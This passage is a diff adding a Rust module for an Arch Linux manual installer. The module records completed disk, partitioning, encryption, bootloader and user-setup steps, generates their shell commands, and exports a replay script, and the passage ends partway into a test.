@@ -0,0 +1,869 @@
+// ===================================================================
+// Manual Installer State Module
+// ===================================================================
+// Tracks what the manual installer has done to the target disk so far.
+// Disk operations cannot be undone, so every completed step is kept in
+// a reviewable history that survives restarts of the application.
+
+use crate::disk;
+use crate::paths::{self, BaseDir};
+use anyhow::{anyhow, Context, Result};
+use serde::{Deserialize, Serialize};
+use std::fmt;
+use std::path::{Path, PathBuf};
+
+/// Where the system being installed or deployed to is mounted.
+pub const TARGET_ROOT: &str = "/mnt";
+/// Packages every install gets; the inspector's recommendations or a plan's extras are added on top.
+pub const BASE_PACKAGES: [&str; 7] = ["base", "linux", "linux-firmware", "networkmanager", "grub", "efibootmgr", "sudo"];
+
+/// The device-mapper name an encrypted root is opened as.
+pub const LUKS_NAME: &str = "cryptroot";
+/// Marks the commands that read the LUKS passphrase from stdin; the passphrase itself is never
+/// part of a command, so it stays out of the history and exported scripts.
+pub const KEY_FROM_STDIN: &str = "--key-file=-";
+
+/// Whether `command` reads a secret from stdin: the LUKS passphrase, or `user:password` lines.
+pub fn reads_secret(command: &str) -> bool {
+    command.contains(KEY_FROM_STDIN) || command.ends_with(" chpasswd")
+}
+
+/// The opened encrypted root, which is formatted and mounted in place of the raw partition.
+pub fn luks_device() -> String {
+    format!("/dev/mapper/{}", LUKS_NAME)
+}
+
+/// The swap file the manual installer can create, relative to the target root.
+pub const SWAP_FILE: &str = "/swapfile";
+
+fn default_efi_size() -> String { "512M".to_string() }
+
+/// A size such as `512M` or `4G`: digits followed by K, M or G.
+pub fn is_valid_size(size: &str) -> bool {
+    let digits = size.trim_end_matches(['K', 'M', 'G']);
+    !digits.is_empty() && digits.len() + 1 == size.len() && digits.chars().all(|c| c.is_ascii_digit())
+}
+
+/// The bytes a valid size stands for; K, M and G are binary units, as sgdisk and sfdisk read them.
+pub fn size_bytes(size: &str) -> Option<u64> {
+    if !is_valid_size(size) {
+        return None;
+    }
+    let (digits, unit) = size.split_at(size.len() - 1);
+    let shift = match unit { "K" => 10, "M" => 20, _ => 30 };
+    digits.parse::<u64>().ok()?.checked_mul(1 << shift)
+}
+
+/// The suggested swap file size for a machine with `ram_kb` of memory: as much as the RAM, rounded
+/// up to whole GiB, between 1G and 8G.
+pub fn default_swap_size(ram_kb: u64) -> String {
+    format!("{}G", ram_kb.div_ceil(1 << 20).clamp(1, 8))
+}
+
+/// The filesystem for the root partition.
+#[derive(Serialize, Deserialize, Clone, Copy, PartialEq, Debug, Default)]
+#[serde(rename_all = "lowercase")]
+pub enum RootFs {
+    #[default]
+    Ext4,
+    Btrfs,
+    Xfs,
+}
+
+impl RootFs {
+    fn mkfs(self) -> &'static str {
+        match self { RootFs::Ext4 => "mkfs.ext4 -F", RootFs::Btrfs => "mkfs.btrfs -f", RootFs::Xfs => "mkfs.xfs -f" }
+    }
+
+    /// The userspace tools the installed system needs for this filesystem, if any.
+    fn tools(self) -> Option<&'static str> {
+        match self { RootFs::Ext4 => None, RootFs::Btrfs => Some("btrfs-progs"), RootFs::Xfs => Some("xfsprogs") }
+    }
+}
+
+impl fmt::Display for RootFs {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        f.write_str(match self { RootFs::Ext4 => "ext4", RootFs::Btrfs => "btrfs", RootFs::Xfs => "xfs" })
+    }
+}
+
+/// The partition table layout. GPT gets an EFI system partition and GRUB for UEFI; MBR gets a
+/// bootable /boot partition and GRUB for BIOS in the disk's boot sector.
+#[derive(Serialize, Deserialize, Clone, Copy, PartialEq, Debug, Default)]
+#[serde(rename_all = "lowercase")]
+pub enum PartitionTable {
+    #[default]
+    Gpt,
+    Mbr,
+}
+
+impl PartitionTable {
+    pub const ALL: [PartitionTable; 2] = [PartitionTable::Gpt, PartitionTable::Mbr];
+
+    /// The firmware mode the layout boots with.
+    pub fn boot_mode(self) -> &'static str {
+        match self { PartitionTable::Gpt => "UEFI", PartitionTable::Mbr => "BIOS" }
+    }
+
+    /// Where the first partition is mounted inside the target.
+    fn boot_mount(self) -> String {
+        match self { PartitionTable::Gpt => format!("{}/boot/efi", TARGET_ROOT), PartitionTable::Mbr => format!("{}/boot", TARGET_ROOT) }
+    }
+}
+
+impl fmt::Display for PartitionTable {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        f.write_str(match self { PartitionTable::Gpt => "GPT", PartitionTable::Mbr => "MBR" })
+    }
+}
+
+/// Whether this machine was booted in UEFI mode.
+pub fn booted_uefi() -> bool {
+    Path::new("/sys/firmware/efi").exists()
+}
+
+/// What a completed step did, with the parameters later steps depend on.
+/// `efi` is the first (boot) partition: the EFI system partition on GPT, /boot on MBR.
+#[derive(Serialize, Deserialize, Clone, Debug)]
+#[serde(tag = "step", rename_all = "snake_case")]
+pub enum StepKind {
+    Wipe { disk: String },
+    Partition {
+        disk: String,
+        efi: String,
+        root: String,
+        #[serde(default = "default_efi_size")]
+        efi_size: String,
+        /// `None` gives root the rest of the disk.
+        #[serde(default)]
+        root_size: Option<String>,
+        #[serde(default)]
+        table: PartitionTable,
+    },
+    /// With `encrypted`, `root` becomes a LUKS container and the filesystem goes on `luks_device()`.
+    Format {
+        efi: String,
+        root: String,
+        #[serde(default)]
+        fs: RootFs,
+        #[serde(default)]
+        table: PartitionTable,
+        #[serde(default)]
+        encrypted: bool,
+    },
+    /// `swap` is the size of a swap file created in the new root, if any; genfstab picks it up
+    /// because it is active when the fstab is generated.
+    Mount {
+        root: String,
+        efi: String,
+        #[serde(default)]
+        table: PartitionTable,
+        #[serde(default)]
+        swap: Option<String>,
+    },
+    Pacstrap { packages: Vec<String> },
+    /// The reviewed output of `genfstab -U`, written as the target's /etc/fstab. An install plan
+    /// leaves it empty; it is generated when the step is reached.
+    Fstab { content: String },
+    /// `bios_disk` is set for MBR layouts, where GRUB goes into that disk's boot sector; `luks` is
+    /// the encrypted root partition the initramfs and GRUB have to unlock, if any.
+    Bootloader {
+        #[serde(default)]
+        bios_disk: Option<String>,
+        #[serde(default)]
+        luks: Option<String>,
+    },
+    /// Sets the hostname and creates an administrator account in the installed system.
+    Configure { hostname: Option<String>, user: Option<String> },
+    /// Links the target's /etc/localtime to `zone`, e.g. `Europe/Berlin`.
+    Timezone { zone: String },
+    /// `locales` are lines of /etc/locale.gen, e.g. `en_US.UTF-8 UTF-8`; every other one is
+    /// disabled, and the first is the system language.
+    Locale { locales: Vec<String> },
+    /// The console keymap, e.g. `de-latin1`.
+    Keymap { keymap: String },
+    /// Creates `name` in `groups`, or adds an existing `name` to them; `wheel` also gets sudo.
+    User { name: String, groups: Vec<String> },
+    /// Sets the passwords of `users` from `user:password` lines on stdin; see `reads_secret`.
+    Passwords { users: Vec<String> },
+}
+
+impl StepKind {
+    /// The step's name in plans and workflows, e.g. `pacstrap`.
+    pub fn id(&self) -> &'static str {
+        match self {
+            StepKind::Wipe { .. } => "wipe",
+            StepKind::Partition { .. } => "partition",
+            StepKind::Format { .. } => "format",
+            StepKind::Mount { .. } => "mount",
+            StepKind::Pacstrap { .. } => "pacstrap",
+            StepKind::Fstab { .. } => "fstab",
+            StepKind::Bootloader { .. } => "bootloader",
+            StepKind::Configure { .. } => "configure",
+            StepKind::Timezone { .. } => "timezone",
+            StepKind::Locale { .. } => "locale",
+            StepKind::Keymap { .. } => "keymap",
+            StepKind::User { .. } => "user",
+            StepKind::Passwords { .. } => "passwords",
+        }
+    }
+
+    /// Whether the step erases existing data.
+    pub fn is_destructive(&self) -> bool {
+        self.erases().is_some()
+    }
+
+    /// The device whose data this step erases, if it erases any.
+    pub fn erases(&self) -> Option<&str> {
+        match self {
+            StepKind::Wipe { disk } | StepKind::Partition { disk, .. } => Some(disk),
+            StepKind::Format { root, .. } => Some(root),
+            _ => None,
+        }
+    }
+
+    /// The shell commands that perform this step, run as root.
+    pub fn commands(&self) -> Vec<String> {
+        let chroot = |command: &str| format!("arch-chroot {} {}", TARGET_ROOT, command);
+        match self {
+            StepKind::Wipe { disk } => vec![format!("wipefs -a {}", disk), format!("sgdisk --zap-all {}", disk)],
+            StepKind::Partition { disk, efi_size, root_size, table: PartitionTable::Gpt, .. } => vec![
+                format!("sgdisk -n 1:0:+{} -t 1:ef00 -c 1:EFI {}", efi_size, disk),
+                format!("sgdisk -n 2:0:{} -t 2:8300 -c 2:Root {}", root_size.as_ref().map_or("0".to_string(), |size| format!("+{}", size)), disk),
+                format!("partprobe {}", disk),
+            ],
+            StepKind::Partition { disk, efi_size, root_size, table: PartitionTable::Mbr, .. } => vec![
+                format!("printf 'label: dos\\n,{},L,*\\n,{},L\\n' | sfdisk {}", efi_size, root_size.as_deref().unwrap_or_default(), disk),
+                format!("partprobe {}", disk),
+            ],
+            StepKind::Format { efi, root, fs, table, encrypted } => {
+                let boot = match table { PartitionTable::Gpt => format!("mkfs.fat -F32 {}", efi), PartitionTable::Mbr => format!("mkfs.ext4 -F {}", efi) };
+                if !encrypted {
+                    return vec![boot, format!("{} {}", fs.mkfs(), root)];
+                }
+                // GRUB reads the kernel from the encrypted root on GPT layouts, and it cannot unlock
+                // argon2 key slots, so the container uses PBKDF2.
+                vec![
+                    boot,
+                    format!("cryptsetup close {} 2>/dev/null || true", LUKS_NAME),
+                    format!("cryptsetup luksFormat --batch-mode --type luks2 --pbkdf pbkdf2 {} {}", KEY_FROM_STDIN, root),
+                    format!("cryptsetup open {} {} {}", KEY_FROM_STDIN, root, LUKS_NAME),
+                    format!("{} {}", fs.mkfs(), luks_device()),
+                ]
+            }
+            StepKind::Mount { root, efi, table, swap } => {
+                let mut commands = vec![
+                    format!("mount {} {}", root, TARGET_ROOT),
+                    format!("mkdir -p {}", table.boot_mount()),
+                    format!("mount {} {}", efi, table.boot_mount()),
+                ];
+                if let Some(size) = swap {
+                    // --file also disables copy-on-write, which a swap file on btrfs requires.
+                    commands.push(format!("mkswap --file --size {} {}{}", size, TARGET_ROOT, SWAP_FILE));
+                    commands.push(format!("swapon {}{}", TARGET_ROOT, SWAP_FILE));
+                }
+                commands
+            }
+            StepKind::Pacstrap { packages } => vec![format!("pacstrap -K {} {}", TARGET_ROOT, packages.join(" "))],
+            // The quoted delimiter keeps the shell from expanding anything in the entries.
+            StepKind::Fstab { content } => vec![format!("cat > {}/etc/fstab <<'EOF'\n{}\nEOF", TARGET_ROOT, content.trim_end())],
+            StepKind::Bootloader { bios_disk, luks } => {
+                let mut commands = Vec::new();
+                if let Some(partition) = luks {
+                    // The systemd-based initramfs unlocks with sd-encrypt and rd.luks.name, the busybox
+                    // one with encrypt and cryptdevice; both parameters are set so either works.
+                    commands.push(format!(
+                        "grep -q '^HOOKS=.*\\bsystemd\\b' {0}/etc/mkinitcpio.conf && hook=sd-encrypt || hook=encrypt; sed -i \"/^HOOKS=/ s/\\bfilesystems\\b/$hook filesystems/\" {0}/etc/mkinitcpio.conf",
+                        TARGET_ROOT
+                    ));
+                    commands.push(chroot("mkinitcpio -P"));
+                    commands.push(format!(
+                        "uuid=$(blkid -s UUID -o value {1}); sed -i \"s|^GRUB_CMDLINE_LINUX=\\\"|GRUB_CMDLINE_LINUX=\\\"cryptdevice=UUID=$uuid:{2} rd.luks.name=$uuid={2} root={3} |\" {0}/etc/default/grub",
+                        TARGET_ROOT,
+                        partition,
+                        LUKS_NAME,
+                        luks_device()
+                    ));
+                    commands.push(format!("sed -i 's/^#\\?GRUB_ENABLE_CRYPTODISK=.*/GRUB_ENABLE_CRYPTODISK=y/' {}/etc/default/grub", TARGET_ROOT));
+                }
+                commands.push(match bios_disk {
+                    Some(disk) => chroot(&format!("grub-install --target=i386-pc {}", disk)),
+                    None => chroot("grub-install --target=x86_64-efi --efi-directory=/boot/efi --bootloader-id=GRUB"),
+                });
+                commands.push(chroot("grub-mkconfig -o /boot/grub/grub.cfg"));
+                commands.push(chroot("systemctl enable NetworkManager"));
+                commands
+            }
+            StepKind::Configure { hostname, user } => {
+                let mut commands = Vec::new();
+                if let Some(hostname) = hostname {
+                    commands.push(format!("echo '{}' > {}/etc/hostname", hostname, TARGET_ROOT));
+                }
+                if let Some(user) = user {
+                    commands.push(chroot(&format!("useradd -m -G wheel {}", user)));
+                    commands.push(format!("echo '%wheel ALL=(ALL:ALL) ALL' > {}/etc/sudoers.d/10-wheel", TARGET_ROOT));
+                }
+                commands
+            }
+            StepKind::Timezone { zone } => vec![format!("ln -sf /usr/share/zoneinfo/{} {}/etc/localtime", zone, TARGET_ROOT), chroot("hwclock --systohc")],
+            StepKind::Locale { locales } => {
+                // Comment out every enabled line, then enable the chosen ones; '.' is escaped for sed.
+                let mut commands = vec![format!("sed -i 's/^[^#]/#&/' {}/etc/locale.gen", TARGET_ROOT)];
+                for locale in locales {
+                    commands.push(format!("sed -i 's/^#{}$/{}/' {}/etc/locale.gen", locale.replace('.', "\\."), locale, TARGET_ROOT));
+                }
+                commands.push(chroot("locale-gen"));
+                let lang = locales.first().and_then(|l| l.split_whitespace().next()).unwrap_or("C.UTF-8");
+                commands.push(format!("echo 'LANG={}' > {}/etc/locale.conf", lang, TARGET_ROOT));
+                commands
+            }
+            StepKind::Keymap { keymap } => vec![format!("echo 'KEYMAP={}' > {}/etc/vconsole.conf", keymap, TARGET_ROOT)],
+            StepKind::User { name, groups } => {
+                // Re-running the step adds the groups to the user it created before.
+                let create = match groups.join(",") {
+                    groups if groups.is_empty() => format!("id {0} >/dev/null 2>&1 || useradd -m {0}", name),
+                    groups => format!("id {0} >/dev/null 2>&1 && usermod -aG {1} {0} || useradd -m -G {1} {0}", name, groups),
+                };
+                let mut commands = vec![chroot(&format!("sh -c '{}'", create))];
+                if groups.iter().any(|g| g == "wheel") {
+                    commands.push(format!("echo '%wheel ALL=(ALL:ALL) ALL' > {}/etc/sudoers.d/10-wheel", TARGET_ROOT));
+                }
+                commands
+            }
+            StepKind::Passwords { .. } => vec![chroot("chpasswd")],
+        }
+    }
+
+    /// The argument vector run in place of `commands` for a step that takes names from a plan
+    /// file, so none of them reaches a shell; `commands` remains what is recorded and exported.
+    pub fn argv(&self) -> Option<Vec<String>> {
+        match self {
+            StepKind::Pacstrap { packages } => Some(["pacstrap", "-K", TARGET_ROOT, "--"].iter().map(|arg| arg.to_string()).chain(packages.iter().cloned()).collect()),
+            _ => None,
+        }
+    }
+
+    /// The programs `commands` runs that a minimal system may lack, checked before the step starts.
+    pub fn tools(&self) -> Vec<&'static str> {
+        match self {
+            StepKind::Wipe { .. } => vec!["wipefs", "sgdisk"],
+            StepKind::Partition { table: PartitionTable::Gpt, .. } => vec!["sgdisk", "partprobe"],
+            StepKind::Partition { table: PartitionTable::Mbr, .. } => vec!["sfdisk", "partprobe"],
+            StepKind::Format { fs, table, encrypted, .. } => {
+                let boot = match table { PartitionTable::Gpt => "mkfs.fat", PartitionTable::Mbr => "mkfs.ext4" };
+                let mut tools = vec![boot, fs.mkfs().split(' ').next().unwrap_or_default()];
+                if *encrypted {
+                    tools.push("cryptsetup");
+                }
+                tools
+            }
+            StepKind::Mount { swap, .. } => if swap.is_some() { vec!["mkswap"] } else { Vec::new() },
+            StepKind::Pacstrap { .. } => vec!["pacstrap"],
+            StepKind::Fstab { .. } | StepKind::Keymap { .. } | StepKind::Configure { user: None, .. } => Vec::new(),
+            StepKind::Bootloader { .. } | StepKind::Configure { .. } | StepKind::Timezone { .. } | StepKind::Locale { .. } | StepKind::User { .. } | StepKind::Passwords { .. } => vec!["arch-chroot"],
+        }
+    }
+}
+
+/// The entry lines of an fstab, without comments and blank lines.
+pub fn fstab_entries(text: &str) -> Vec<&str> {
+    text.lines().map(str::trim).filter(|line| !line.is_empty() && !line.starts_with('#')).collect()
+}
+
+/// Why `text` should not be written as the target's fstab, if it should not.
+pub fn invalid_fstab(text: &str) -> Option<&'static str> {
+    let entries = fstab_entries(text);
+    if entries.is_empty() {
+        Some("The fstab has no entries; is anything mounted under /mnt?")
+    } else if entries.iter().any(|entry| entry.split_whitespace().count() < 4) {
+        Some("Every entry needs at least a device, a mount point, a type and options.")
+    } else if !entries.iter().any(|entry| entry.split_whitespace().nth(1) == Some("/")) {
+        Some("There is no entry for the root filesystem ('/'); the system would not boot.")
+    } else {
+        None
+    }
+}
+
+/// `text` with the options (fourth field) of the entry `entry` replaced by `options`.
+pub fn set_fstab_options(text: &str, entry: &str, options: &str) -> String {
+    let lines: Vec<String> = text
+        .lines()
+        .map(|line| {
+            if line.trim() != entry {
+                return line.to_string();
+            }
+            let mut fields: Vec<&str> = line.split_whitespace().collect();
+            if let Some(field) = fields.get_mut(3) {
+                *field = options;
+            }
+            fields.join("\t")
+        })
+        .collect();
+    lines.join("\n") + "\n"
+}
+
+/// Lowercase letters, digits, '_' and '-', not leading with '-', as useradd accepts by default;
+/// also for group names.
+pub fn is_valid_user_name(name: &str) -> bool {
+    !name.is_empty() && !name.starts_with('-') && name.chars().all(|c| c.is_ascii_lowercase() || c.is_ascii_digit() || c == '_' || c == '-')
+}
+
+/// The locales listed in a locale.gen, e.g. `en_US.UTF-8 UTF-8`, and whether each is enabled.
+/// The examples in the header (`#  en_US ISO-8859-1`) are indented and left out.
+pub fn parse_locale_gen(text: &str) -> Vec<(String, bool)> {
+    text.lines()
+        .filter_map(|line| {
+            let (entry, enabled) = match line.strip_prefix('#') { Some(rest) => (rest, false), None => (line, true) };
+            let fields: Vec<&str> = entry.split_whitespace().collect();
+            let charset = fields.get(1)?;
+            (fields.len() == 2 && !entry.starts_with(char::is_whitespace) && charset.chars().all(|c| c.is_ascii_uppercase() || c.is_ascii_digit() || c == '-'))
+                .then(|| (fields.join(" "), enabled))
+        })
+        .collect()
+}
+
+/// Every file under `dir`, as paths relative to it.
+fn files_under(dir: &Path) -> Vec<PathBuf> {
+    let mut files = Vec::new();
+    let mut pending = vec![PathBuf::new()];
+    while let Some(relative) = pending.pop() {
+        for entry in std::fs::read_dir(dir.join(&relative)).into_iter().flatten().flatten() {
+            let path = relative.join(entry.file_name());
+            if entry.file_type().is_ok_and(|t| t.is_dir()) {
+                pending.push(path);
+            } else {
+                files.push(path);
+            }
+        }
+    }
+    files
+}
+
+/// The time zones in a zoneinfo directory, sorted. Zone names are capitalised, which leaves out
+/// the `posix` and `right` copies and the data files.
+pub fn zone_names(dir: &Path) -> Vec<String> {
+    let mut zones: Vec<String> = files_under(dir)
+        .iter()
+        .filter(|path| path.iter().all(|part| part.to_str().is_some_and(|p| p.starts_with(|c: char| c.is_ascii_uppercase()))))
+        .map(|path| path.to_string_lossy().to_string())
+        .filter(|zone| zone != "Factory")
+        .collect();
+    zones.sort();
+    zones
+}
+
+/// The console keymaps in a kbd keymaps directory, by name, sorted.
+pub fn keymap_names(dir: &Path) -> Vec<String> {
+    let mut keymaps: Vec<String> = files_under(dir)
+        .iter()
+        .filter(|path| !path.iter().any(|part| part == "include"))
+        .filter_map(|path| path.file_name()?.to_str()?.strip_suffix(".map.gz").map(String::from))
+        .collect();
+    keymaps.sort();
+    keymaps.dedup();
+    keymaps
+}
+
+/// Letters, digits and inner hyphens, at most 63 characters.
+pub fn is_valid_hostname(hostname: &str) -> bool {
+    !hostname.is_empty() && hostname.len() <= 63 && !hostname.starts_with('-') && !hostname.ends_with('-')
+        && hostname.chars().all(|c| c.is_ascii_alphanumeric() || c == '-')
+}
+
+/// `hosts` (an /etc/hosts) with the names `old` and `old.<domain>` renamed to `new`, spacing and
+/// comments kept, plus a 127.0.1.1 line for `new` when no entry names it. An `old` that is not a
+/// valid hostname is left alone.
+pub fn renamed_hosts(hosts: &str, old: &str, new: &str) -> String {
+    let rename = |name: &str| match name.strip_prefix(old) {
+        Some(rest) if is_valid_hostname(old) && (rest.is_empty() || rest.starts_with('.')) => format!("{}{}", new, rest),
+        _ => name.to_string(),
+    };
+    let mut out = String::new();
+    for line in hosts.split_inclusive('\n') {
+        let (entry, comment) = line.split_at(line.find('#').unwrap_or(line.len()));
+        for piece in entry.split_inclusive(char::is_whitespace) {
+            let name = piece.trim_end_matches(char::is_whitespace);
+            out.push_str(&rename(name));
+            out.push_str(&piece[name.len()..]);
+        }
+        out.push_str(comment);
+    }
+    let named = out.lines().any(|line| line.split('#').next().unwrap_or("").split_whitespace().skip(1).any(|name| name == new));
+    if !named {
+        if !out.is_empty() && !out.ends_with('\n') {
+            out.push('\n');
+        }
+        out.push_str(&format!("127.0.1.1\t{0}.localdomain\t{0}\n", new));
+    }
+    out
+}
+
+impl fmt::Display for StepKind {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        match self {
+            StepKind::Wipe { disk } => write!(f, "Wiped {}", disk),
+            StepKind::Partition { disk, efi, root, efi_size, root_size, table } => {
+                let boot = match table { PartitionTable::Gpt => "EFI", PartitionTable::Mbr => "/boot" };
+                write!(f, "Partitioned {} as {} ({} {} of {}, root {} of {})", disk, table, boot, efi, efi_size, root, root_size.as_deref().unwrap_or("the rest"))
+            }
+            StepKind::Format { efi, root, fs, table, encrypted } => write!(
+                f,
+                "Formatted {} as {} and {} as {}{}",
+                efi,
+                if *table == PartitionTable::Mbr { "ext4" } else { "FAT32" },
+                root,
+                if *encrypted { "LUKS with " } else { "" },
+                fs,
+            ),
+            StepKind::Mount { root, efi, swap: None, .. } => write!(f, "Mounted {} and {}", root, efi),
+            StepKind::Mount { root, efi, swap: Some(size), .. } => write!(f, "Mounted {} and {} with a {} swap file", root, efi, size),
+            StepKind::Pacstrap { packages } => write!(f, "Installed {}", packages.join(" ")),
+            StepKind::Fstab { content } if content.is_empty() => write!(f, "Generated {}/etc/fstab", TARGET_ROOT),
+            StepKind::Fstab { content } => write!(f, "Wrote {}/etc/fstab with {} entries", TARGET_ROOT, fstab_entries(content).len()),
+            StepKind::Bootloader { bios_disk, luks } => {
+                match bios_disk {
+                    None => write!(f, "Installed and configured GRUB (UEFI")?,
+                    Some(disk) => write!(f, "Installed and configured GRUB (BIOS, on {}", disk)?,
+                }
+                match luks {
+                    Some(partition) => write!(f, ", unlocking {})", partition),
+                    None => write!(f, ")"),
+                }
+            }
+            StepKind::Configure { hostname, user } => write!(
+                f,
+                "Configured hostname {} and user {}",
+                hostname.as_deref().unwrap_or("(unchanged)"),
+                user.as_deref().unwrap_or("(none)"),
+            ),
+            StepKind::Timezone { zone } => write!(f, "Set the time zone to {}", zone),
+            StepKind::Locale { locales } => write!(f, "Enabled the locales {}", locales.join(", ")),
+            StepKind::Keymap { keymap } => write!(f, "Set the console keymap to {}", keymap),
+            StepKind::User { name, groups } if groups.is_empty() => write!(f, "Created user {}", name),
+            StepKind::User { name, groups } => write!(f, "Created user {} in {}", name, groups.join(", ")),
+            StepKind::Passwords { users } => write!(f, "Set the passwords of {}", users.join(", ")),
+        }
+    }
+}
+
+#[derive(Serialize, Deserialize, Clone, Debug)]
+pub struct InstallStep {
+    pub kind: StepKind,
+    /// The exact shell commands that were run, in order.
+    pub commands: Vec<String>,
+    pub finished: String,
+}
+
+#[derive(Serialize, Deserialize, Clone, Debug, Default)]
+#[serde(default)]
+pub struct InstallState {
+    pub disk: Option<String>,
+    pub efi_partition: Option<String>,
+    pub root_partition: Option<String>,
+    /// The layout chosen when the disk was partitioned.
+    pub table: PartitionTable,
+    /// Whether the root partition was formatted as a LUKS container. The passphrase is never saved.
+    pub encrypted: bool,
+    pub history: Vec<InstallStep>,
+}
+
+impl InstallState {
+    /// `install-state.json` in the real user's state directory.
+    pub fn path() -> Option<PathBuf> {
+        paths::base_dir(BaseDir::State).ok().map(|dir| dir.join("install-state.json"))
+    }
+
+    /// The state saved by an earlier session, or a fresh one.
+    pub fn load() -> InstallState {
+        Self::path()
+            .and_then(|path| std::fs::read_to_string(path).ok())
+            .and_then(|text| serde_json::from_str(&text).ok())
+            .unwrap_or_default()
+    }
+
+    pub fn save(&self) -> Result<()> {
+        let path = Self::path().context("The state directory could not be resolved")?;
+        if let Some(dir) = path.parent() {
+            std::fs::create_dir_all(dir)?;
+        }
+        std::fs::write(&path, serde_json::to_string_pretty(self)?).with_context(|| format!("Failed to write {}", path.display()))
+    }
+
+    /// Applies a completed step. Wiping a disk starts a new installation, so it clears the history.
+    pub fn record(&mut self, step: InstallStep) {
+        match &step.kind {
+            StepKind::Wipe { disk } => *self = InstallState { disk: Some(disk.clone()), ..Default::default() },
+            StepKind::Partition { disk, efi, root, table, .. } => {
+                self.disk = Some(disk.clone());
+                self.efi_partition = Some(efi.clone());
+                self.root_partition = Some(root.clone());
+                self.table = *table;
+            }
+            StepKind::Format { encrypted, .. } => self.encrypted = *encrypted,
+            _ => {}
+        }
+        self.history.push(step);
+    }
+
+    /// The steps performed so far, numbered, with the commands each one ran.
+    pub fn history_text(&self) -> String {
+        if self.history.is_empty() {
+            return "No manual installer steps have been performed yet.".to_string();
+        }
+        let mut text = String::new();
+        for (i, step) in self.history.iter().enumerate() {
+            text.push_str(&format!("{}. {}  ({})\n", i + 1, step.kind, step.finished));
+            for command in &step.commands {
+                text.push_str(&format!("     $ {}\n", command));
+            }
+        }
+        text
+    }
+
+    /// A standalone bash script that replays the recorded commands on another machine.
+    pub fn script(&self) -> String {
+        let mut script = format!(
+            "#!/usr/bin/env bash\n# Generated by Arch System Suite on {}.\n# Replays the manual installer steps below. Review the device names before running!\nset -euo pipefail\n\n[[ $EUID -eq 0 ]] || {{ echo \"Run this script as root.\" >&2; exit 1; }}\n",
+            chrono::Local::now().format("%Y-%m-%d %H:%M"),
+        );
+        for (i, step) in self.history.iter().enumerate() {
+            script.push_str(&format!("\n# --- {}. {} ---\n", i + 1, step.kind));
+            for command in &step.commands {
+                if step.kind.is_destructive() {
+                    script.push_str("# DESTRUCTIVE: erases data on the target device\n");
+                }
+                script.push_str(command);
+                script.push('\n');
+            }
+        }
+        script
+    }
+}
+
+/// The partition device for partition `n` of `disk`: `/dev/sda` + 1 is `/dev/sda1`, `/dev/nvme0n1` + 1 is `/dev/nvme0n1p1`.
+pub fn partition_path(disk: &str, n: u32) -> String {
+    if disk.ends_with(|c: char| c.is_ascii_digit()) { format!("{}p{}", disk, n) } else { format!("{}{}", disk, n) }
+}
+
+/// A declarative description of a whole manual install, read from a TOML file:
+///
+/// ```toml
+/// disk = "/dev/nvme0n1"
+/// efi_size = "1G"
+/// root_fs = "btrfs"
+/// partition_table = "gpt"
+/// swap_size = "4G"
+/// packages = ["vim", "git"]
+/// hostname = "workstation"
+/// user = "admin"
+/// ```
+#[derive(Deserialize, Clone, Debug)]
+#[serde(deny_unknown_fields)]
+pub struct InstallPlan {
+    pub disk: String,
+    #[serde(default = "default_efi_size")]
+    pub efi_size: String,
+    #[serde(default)]
+    pub root_fs: RootFs,
+    #[serde(default)]
+    pub partition_table: PartitionTable,
+    /// The size of a swap file in the new root; no swap when left out.
+    pub swap_size: Option<String>,
+    /// Installed on top of the base packages.
+    #[serde(default)]
+    pub packages: Vec<String>,
+    pub hostname: Option<String>,
+    pub user: Option<String>,
+}
+
+impl InstallPlan {
+    pub fn load(path: &Path) -> Result<InstallPlan> {
+        let text = std::fs::read_to_string(path).with_context(|| format!("Failed to read {}", path.display()))?;
+        toml::from_str(&text).with_context(|| format!("Invalid install plan in {}", path.display()))
+    }
+
+    /// Checks the plan against this machine before anything is touched.
+    pub async fn validate(&self) -> Result<()> {
+        self.check_values()?;
+        let disks = disk::list().await?;
+        if !disks.iter().any(|d| d.kind == "disk" && d.name == self.disk) {
+            return Err(anyhow!("The plan targets {}, which is not a disk on this machine.", self.disk));
+        }
+        Ok(())
+    }
+
+    /// Checks the sizes, package names, hostname and user name the file gives.
+    pub fn check_values(&self) -> Result<()> {
+        if !is_valid_size(&self.efi_size) {
+            return Err(anyhow!("efi_size '{}' must be a number followed by K, M or G, e.g. 512M.", self.efi_size));
+        }
+        if let Some(size) = self.swap_size.as_deref().filter(|s| !is_valid_size(s)) {
+            return Err(anyhow!("swap_size '{}' must be a number followed by K, M or G, e.g. 4G.", size));
+        }
+        if let Some(hostname) = self.hostname.as_deref().filter(|h| !is_valid_hostname(h)) {
+            return Err(anyhow!("'{}' is not a valid hostname.", hostname));
+        }
+        if let Some(user) = self.user.as_deref().filter(|u| !is_valid_user_name(u)) {
+            return Err(anyhow!("'{}' is not a valid user name.", user));
+        }
+        if let Some(package) = crate::iso::invalid_package(&self.packages) {
+            return Err(anyhow!("'{}' is not a package name: use letters, digits and @._+-.", package));
+        }
+        Ok(())
+    }
+
+    /// Every step of the plan, in the order the manual installer runs them.
+    pub fn steps(&self) -> Vec<StepKind> {
+        let (efi, root) = (partition_path(&self.disk, 1), partition_path(&self.disk, 2));
+        let mut packages: Vec<String> = BASE_PACKAGES.map(String::from).to_vec();
+        packages.extend(self.root_fs.tools().map(String::from));
+        packages.extend(self.packages.iter().filter(|p| !BASE_PACKAGES.contains(&p.as_str())).cloned());
+        let mut steps = vec![
+            StepKind::Wipe { disk: self.disk.clone() },
+            StepKind::Partition { disk: self.disk.clone(), efi: efi.clone(), root: root.clone(), efi_size: self.efi_size.clone(), root_size: None, table: self.partition_table },
+            StepKind::Format { efi: efi.clone(), root: root.clone(), fs: self.root_fs, table: self.partition_table, encrypted: false },
+            StepKind::Mount { root, efi, table: self.partition_table, swap: self.swap_size.clone() },
+            StepKind::Pacstrap { packages },
+            StepKind::Fstab { content: String::new() },
+            StepKind::Bootloader { bios_disk: (self.partition_table == PartitionTable::Mbr).then(|| self.disk.clone()), luks: None },
+        ];
+        if self.hostname.is_some() || self.user.is_some() {
+            steps.push(StepKind::Configure { hostname: self.hostname.clone(), user: self.user.clone() });
+        }
+        steps
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn mbr_layout_boots_grub_from_the_disk() {
+        let plan: InstallPlan = toml::from_str("disk = \"/dev/sda\"\npartition_table = \"mbr\"").unwrap();
